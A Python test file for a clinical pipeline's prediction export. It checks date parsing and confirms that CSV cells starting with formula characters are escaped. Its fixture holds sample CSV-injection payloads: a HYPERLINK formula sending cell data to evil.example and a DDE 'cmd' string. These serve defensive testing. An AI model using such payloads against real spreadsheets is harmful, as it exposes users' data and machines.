"""Reading predictions back (bcc_pipeline.predictions)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from bcc_pipeline import predictions
from bcc_pipeline.errors import ConfigError


def test_parse_since():
    now = dt.datetime(2026, 11, 26, 12, 0, tzinfo=dt.UTC)
    assert predictions.parse_since("2h", now) == now - dt.timedelta(hours=2)
    assert predictions.parse_since("2026-11-26") == dt.datetime(2026, 11, 26, tzinfo=dt.UTC)
    assert predictions.parse_since("2026-11-26T03:00+01:00") == dt.datetime(2026, 11, 26, 2, tzinfo=dt.UTC)
    with pytest.raises(ConfigError):
        predictions.parse_since("soon")


def test_csv_never_hands_a_spreadsheet_a_formula():
    """A run id is chosen by whoever triggers a run: ``=HYPERLINK(...)`` in the CSV export would run in
    the spreadsheet a clinician opens it with. Such cells are shown as text; numbers and ordinary cells
    are unchanged, and the JSON export keeps every value exactly."""
    row = dict.fromkeys(predictions.PREDICTION_FIELDS, "")
    row.update(
        sha256="ab" * 32,
        source_path="/home/bcc/archive/r/=cmd|' /C calc'!A0.png",
        run_id='=HYPERLINK("http://evil.example/?"&A1,"open")',
        model_version="@SUM(1+1)",
        label="malignant",
        prob_malignant=0.25,
        threshold=0.5,
        backend="-1+2",
        precision="+3",
    )
    header, cells = list(csv.reader(io.StringIO("".join(predictions.csv_chunks([row])))))
    got = dict(zip(header, cells, strict=True))
    assert got["run_id"] == "'" + row["run_id"]
    assert got["model_version"] == "'@SUM(1+1)" and got["backend"] == "'-1+2" and got["precision"] == "'+3"
    assert got["source_path"] == row["source_path"] and got["label"] == "malignant"
    assert got["prob_malignant"] == "0.25" and got["threshold"] == "0.5"
    assert json.loads("".join(predictions.json_chunks([row])))[0] == row
